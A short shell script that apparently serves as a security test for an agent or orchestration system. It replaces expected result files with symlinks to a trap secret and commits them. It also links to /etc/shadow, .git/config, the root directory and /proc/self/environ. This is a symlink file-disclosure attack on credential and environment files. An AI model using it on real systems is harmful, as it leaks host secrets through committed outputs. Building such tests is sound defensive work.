# Commits links to files of the host in place of results and tracked files.
for name in result.json report.json .architect/result.json .orchestrator/result.json a.txt; do
  mkdir -p "$(dirname $name)" && ln -sf "$TRAP/secret" $name
done
ln -s /etc/shadow shadow; ln -s ../.git/config config; ln -s / root; ln -s /proc/self/environ env
commit
